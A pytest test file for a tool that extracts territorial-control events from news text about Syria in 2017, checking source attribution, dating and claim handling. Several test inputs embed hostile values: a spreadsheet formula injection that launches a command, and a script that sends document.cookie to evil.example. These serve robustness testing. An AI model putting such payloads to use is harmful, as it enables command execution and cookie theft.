"""Fixes from a new user's own article about the demo theatre (stop 26, ``layers/syria-2017``:
two state actors, GOV and IRAQ, so "a military source" is "the government side", not GOV).

* Two attributions are independent only when they are not one party or its organs (its
  army, ministry, spokesman, "a military source", its news agency); the rule names both.
* A part of a place ("the T-4 area's eastern approaches") is not the place.
* A role word several sides share, told apart by an earlier mention, is still a role word.
* Verbs joined by "and" share the clause's date.
* A claim's claimant is its speaker, never quotation text; its period is never the
  publication day alone.
* The extract command warns on a draft at a place its gainer holds, and says a lead may
  have several reasons; merge-drafts drops a reviewed lead's "lead: ..." note part.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest
from sentences import THEATRE

from geomap.cli import main
from geomap.drafts import DRAFT_COLUMNS, lead_note_dropped, merge_drafts
from geomap.extract import extract
from geomap.inputs import load_inputs

DEMO = Path(__file__).resolve().parents[2] / "layers" / "syria-2017"
DATELINE = "DAMASCUS, June 3, 2017 (Wire) -- "  # a Saturday: "on Friday" is June 2


@pytest.fixture(scope="module")
def demo():
    return load_inputs(DEMO)


def _rows(text, theatre):
    return extract(DATELINE + text, theatre).rows.to_dict("records")


def _row(text, theatre, place):
    return next(r for r in _rows(text, theatre) if r["place"] == place)


# ------------------------------------------------------------------ 1. independent sources
@pytest.mark.parametrize(
    ("text", "confidence", "rule"),
    [
        # one party's organs: a military source and the army's command, state media and the army
        (
            "Syrian government forces on Friday took the town of Arak from Islamic State "
            'militants, a military source said. "We have liberated Arak from the terrorists," '
            "the army's General Command said.",
            "claimed",
            "one attribution",
        ),
        (
            "Government forces captured Arak on Friday, state media said, and the army "
            "confirmed it.",
            "claimed",
            "one attribution",
        ),
        (  # two organs named together
            "Government forces captured Arak on Friday, state media and the army said.",
            "claimed",
            "one attribution",
        ),
        (  # hostile quote text does not make a second source
            "Government forces captured Arak on Friday, a military source said. "
            "\"=cmd|' /C calc'!A0 <b>\" the army's General Command said government forces "
            "took Arak on Friday.",
            "claimed",
            "one attribution",
        ),
        # a party and residents, a party and a monitor: independent, and the rule says which
        (
            "Government forces captured Arak on Friday, a military source said. Residents "
            "said government forces took Arak on Friday.",
            "confirmed",
            "two independent attributions): the government side and residents",
        ),
        (
            "Government forces captured Arak on Friday, state media said, and the "
            "Observatory confirmed it.",
            "confirmed",
            "two independent attributions): the government side and the monitor",
        ),
    ],
)
def test_two_attributions_of_one_party_are_one(demo, text, confidence, rule):
    row = _row(text, demo, "arak")
    assert row["confidence"] == confidence, row["note"]
    assert rule in row["note"]


# ------------------------------------------------------------ 2. a part of a place
@pytest.mark.parametrize(
    ("text", "places"),
    [
        (
            "Syrian government forces on Friday captured the T-4 area's eastern approaches "
            "and took the town of Arak from Islamic State militants.",
            ["arak"],
        ),
        ("Government forces seized Arak's outskirts on Friday.", []),
        ("Government forces captured the eastern approaches of Arak on Friday.", []),
        ("Government forces seized the T-4 airbase's perimeter and Arak on Friday.", ["arak"]),
        ("The western edges of Arak fell to government forces on Friday.", []),
        # hostile text between the owner and the part
        ("Government forces captured Arak's <script>approaches</script> on Friday.", []),
        # the place itself: drafted
        ("Government forces captured Arak on Friday, the town's mayor said.", ["arak"]),
        ("Government forces captured Arak and Palmyra's old city on Friday.", ["arak", "palmyra"]),
        ("Government forces captured the T-4 airbase on Friday.", ["t4-airbase"]),
    ],
)
def test_a_part_of_a_place_is_not_the_place(demo, text, places):
    assert [r["place"] for r in _rows(text, demo)] == places


# ------------------------------------------------- 3. a role word is not a pronoun
@pytest.mark.parametrize(
    ("text", "support"),
    [
        # "government troops" fits GOV or IRAQ; the earlier "Syrian government forces" tells
        # them apart: a role word, as firm as when it fits one side
        (
            "Syrian government forces captured Palmyra on May 30. Government troops also "
            "seized Arak on May 31 from IS.",
            "gainer role word",
        ),
        (
            "Syrian government forces captured Palmyra on May 30. Later, government troops "
            "seized Arak on May 31.",
            "gainer role word",
        ),
        (  # hostile text before the role word
            'Syrian government forces captured Palmyra on May 30. =HYPERLINK("x") <b>Government '
            "troops</b> seized Arak on May 31.",
            "gainer role word",
        ),
        # a pronoun is still a pronoun
        (
            "Syrian government forces captured Palmyra on May 30. They also seized Arak on May 31.",
            "gainer pronoun",
        ),
    ],
)
def test_a_role_word_told_apart_is_a_role_word(demo, text, support):
    row = _row(text, demo, "arak")
    assert row["to_actor"] == "GOV"
    assert row["support"].startswith(support), row["note"]


def test_a_role_word_that_fits_two_sides_stays_unresolved(demo):
    row = _row("Government troops seized Arak on May 31 from IS.", demo, "arak")
    assert row["to_actor"] == "" and "fits GOV or IRAQ" in row["note"]


# ------------------------------------------------------ 4. coordinated verbs share a date
@pytest.mark.parametrize(
    ("text", "date"),
    [
        (
            "Syrian government forces on Friday captured the T-4 area's eastern approaches "
            "and took the town of Arak from Islamic State militants, a military source said.",
            "2017-06-02",
        ),
        ("Government forces on Friday captured Palmyra and then took Arak.", "2017-06-02"),
        ("Government forces captured Palmyra on Friday and took Arak.", "2017-06-02"),
        (  # hostile text in the first clause
            "Government forces on Friday captured <script>x</script> Palmyra and took =Arak.",
            "2017-06-02",
        ),
        # its own date first
        ("Government forces on Friday captured Palmyra and took Arak on Saturday.", "2017-06-03"),
        (
            "Government forces on Wednesday captured Palmyra and seized Arak two days later.",
            "2017-06-02",
        ),
        # another subject: not the clause's date
        ("Government forces on Friday captured Palmyra and IS took Arak.", "2017-06-03"),
    ],
)
def test_coordinated_verbs_share_the_clause_date(demo, text, date):
    row = _row(text, demo, "arak")
    assert row["date"] == date, row["note"]


# ------------------------------------------------------- 5. a claim's claimant and period
QUOTED = (
    "\"We have liberated Arak and the Al-Hayl gas field <script>fetch('https://evil.example/'"
    "+document.cookie)</script> from the terrorists,\" the army's General Command said in a "
    "statement, adding that troops had secured \"=cmd|' /C calc'!A0\" more than 1,200 square "
    "kilometres."
)


def _claim(text, theatre):
    [row] = extract(DATELINE + text, theatre).claim_drafts.to_dict("records")
    return row


@pytest.mark.parametrize(
    ("text", "claimant"),
    [
        (QUOTED, "the army's General Command (GOV)"),
        (
            "'We took it,' the Observatory said, adding that the army held 300 sq km.",
            "the Observatory",
        ),
        ("The army said it had secured more than 1,200 square kilometres.", "The army (GOV)"),
    ],
)
def test_a_claimant_is_the_speaker_never_quote_text(demo, text, claimant):
    row = _claim(text, demo)
    assert row["claimant"] == claimant


@pytest.mark.parametrize(
    ("text", "start", "end", "note"),
    [
        # a campaign total with no start: left empty for the reviewer, and said
        (QUOTED, "", "2017-06-03", "start left empty"),
        (
            "Government forces have taken more than 1,200 square kilometres since the "
            "offensive began on May 7, the army said.",
            "2017-05-07",
            "2017-06-03",
            "start from 'since the offensive began on May 7'",
        ),
        (
            "Government forces took 1,200 sq km in the past three weeks, the Observatory said.",
            "2017-05-13",
            "2017-06-03",
            "start from 'in the past three weeks'",
        ),
        (
            "Since May 7, the army has retaken 2,000 sq km, <b>residents</b> said.",
            "2017-05-07",
            "2017-06-03",
            "start from 'Since May 7'",
        ),
        # the figure of one change the clause dates: that day
        (
            "Government forces captured Arak on Friday, an area of 50 sq km, state media said.",
            "2017-06-02",
            "2017-06-02",
            "period from the change drafted in the sentence (arak)",
        ),
    ],
)
def test_a_claim_period_is_never_the_publication_day_alone(demo, text, start, end, note):
    row = _claim(text, demo)
    assert (row["start"], row["end"]) == (start, end), row["note"]
    assert note in row["note"]
    if not start:  # merge-drafts refuses a claim without a start: the note says so
        assert "fill in start" in row["note"] and "merge-drafts" in row["note"]


# ------------------------------------------ 6, 7. the extract command's summary and check
def _cli(capsys, tmp_path, text):
    art = tmp_path / "a.txt"
    art.write_text(DATELINE + text + "\n", encoding="utf-8")
    out_file = tmp_path / "d.csv"
    code = main(["extract", str(art), "--theatre", str(DEMO), "--out", str(out_file)])
    err = capsys.readouterr().err
    assert code == 0, err
    return out_file, err


HELD = "GOV already holds t4-airbase on that date: the draft changes nothing"


@pytest.mark.parametrize(
    ("text", "warned"),
    [
        # T-4 is GOV's in the snapshot
        ("Government forces captured the T-4 airbase on Friday, the army said.", True),
        (
            "Government forces captured the T-4 airbase <script>x</script> on Friday, "
            "=SUM(A1) the army said.",
            True,
        ),
        # another side taking it, or a place GOV does not hold: a change
        ("IS fighters captured the T-4 airbase on Friday, the Amaq agency said.", False),
        ("Government forces captured Arak on Friday, the army said.", False),
    ],
)
def test_a_draft_at_a_place_its_gainer_holds_is_warned(capsys, tmp_path, text, warned):
    out_file, err = _cli(capsys, tmp_path, text)
    assert (f"{out_file}:2: to_actor: warning: {HELD}" in err) == warned, err


@pytest.mark.parametrize(
    ("text", "several"),
    [
        # the gainer from the context and no date of its own: one lead, two reasons
        ("IS fighters attacked Arak on Friday. Palmyra was later taken.", True),
        # one lead, one reason
        ("IS fighters captured Arak on Friday. IS fighters later took Palmyra.", False),
    ],
)
def test_the_summary_says_a_lead_may_have_several_reasons(capsys, tmp_path, text, several):
    _, err = _cli(capsys, tmp_path, text)
    head = err.splitlines()[0]
    assert "1 lead" in head
    assert ("1 lead (reasons, a lead may have several): " in head) == several, head


# ------------------------------------------------ 8. a reviewed lead's note at merge
TOOL = "geomap extract: capture 'took'; to_actor GOV ← 'Government troops'"


@pytest.mark.parametrize(
    ("note", "merged"),
    [
        (f"lead: date borrowed from the publication day; {TOOL}", TOOL),
        (  # several reasons, and the reviewer's own words after the tool's
            "lead: gaining side read from a pronoun or generic word; date borrowed from the "
            f"publication day; {TOOL}; reviewer: Friday per SANA",
            f"{TOOL}; reviewer: Friday per SANA",
        ),
        # the tool's part replaced by the reviewer's words: those are kept
        ("lead: no date; no gaining side; Friday per SANA", "Friday per SANA"),
        (
            "lead: unknown place 'Qasr al-Hayr'; =cmd|' /C calc'!A0 <b>x</b>",
            "=cmd|' /C calc'!A0 <b>x</b>",
        ),
        # the reviewer's words before the tool's part are kept too (second review)
        (
            f"lead: no date; reviewer: date from SANA 3 June; {TOOL}",
            f"reviewer: date from SANA 3 June; {TOOL}",
        ),
        (f"Lead: no date; {TOOL}", TOOL),  # capitalised by a spreadsheet or a reviewer
        # not a lead's note: as written
        ("reviewer: lead: the army's word only", "reviewer: lead: the army's word only"),
        (TOOL, TOOL),
        ("", ""),
    ],
)
def test_a_lead_note_loses_its_lead_reasons(note, merged):
    assert lead_note_dropped(note) == merged


def test_merge_drafts_drops_a_reviewed_lead_note_lead_part(tmp_path):
    theatre = tmp_path / "theatre"
    shutil.copytree(THEATRE, theatre)
    ex = extract("BEIRUT, May 27, 2017 (Wire) — Government troops took Arak from IS.", theatre)
    [lead] = ex.leads.to_dict("records")
    assert lead["note"].startswith("lead: date borrowed from the publication day; geomap extract")
    # the reviewer completes it (the day from another source), and moves it into the drafts
    lead.update(date="2017-05-26", status="reviewed")
    lead["note"] += "; reviewer: Friday per SANA"
    drafts = tmp_path / "d.csv"
    pd.DataFrame([lead], columns=DRAFT_COLUMNS).to_csv(drafts, index=False)
    merge_drafts(theatre, drafts)
    events = pd.read_csv(theatre / "events.csv", dtype=str, keep_default_na=False)
    note = events["note"].iloc[-1]
    assert note.startswith("geomap extract: capture 'took'") and "lead:" not in note
    assert note.endswith("reviewer: Friday per SANA")
